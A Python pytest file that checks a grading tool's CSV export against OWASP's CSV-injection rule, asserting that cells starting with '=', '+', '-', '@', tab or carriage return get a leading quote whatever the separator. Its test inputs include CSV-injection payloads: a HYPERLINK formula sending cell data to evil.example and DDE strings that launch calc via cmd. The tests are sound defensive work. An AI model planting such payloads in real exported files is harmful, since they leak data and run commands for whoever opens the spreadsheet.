"""The results folder's CSV, held to OWASP's rule for CSV cells
(https://owasp.org/www-community/attacks/CSV_Injection): no cell a spreadsheet reads may
begin with '=', '+', '-', '@', a tab or a carriage return, whether it splits the lines on
',' (the file's own separator), on ';' or on tabs (OWASP: "take care of the field separator");
such a cell gets a "'" and keeps its text after it."""
import csv
import io

import pytest

from grader.grading.store import csv_text

OWASP_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def record(student, error=None):
    if error:
        return {"student": student, "error": error, "per": {}, "score": None, "max_score": None}
    return {"student": student, "error": None, "per": {"terrain-warmup": 2.5}, "score": 2.5,
            "max_score": 26}


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "a;=1+1", 'a,"=1+1', "alice",
               "'=already quoted", "=", ""]


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_can_start_a_formula_whatever_the_spreadsheet_splits_on(delimiter):
    text = csv_text([record(s) for s in HOSTILE_IDS] + [record("bob", e) for e in HOSTILE_IDS if e])
    assert cells(text, delimiter)
    for cell in cells(text, delimiter):
        assert not cell.startswith(OWASP_FORMULA_START), repr(cell)


@pytest.mark.parametrize("student", HOSTILE_IDS)
def test_a_neutralised_cell_keeps_its_text_after_the_quote(student):
    rows = list(csv.reader(io.StringIO(csv_text([record(student), record("x", student or "e")]),
                                       newline="")))
    expected = "'" + student if student.startswith(OWASP_FORMULA_START) else student
    expected = expected.replace(";=", ";'=").replace("\t=", "\t'=").replace("\r=", "\r'=")
    assert rows[1][0] == expected
    assert rows[2][-1] == (expected or "e")


def test_scores_stay_plain_numbers():
    rows = list(csv.reader(io.StringIO(csv_text([record("alice")]), newline="")))
    assert rows[1][rows[0].index("terrain-warmup")] == "2.5" and rows[1][rows[0].index("max_score")] == "26"
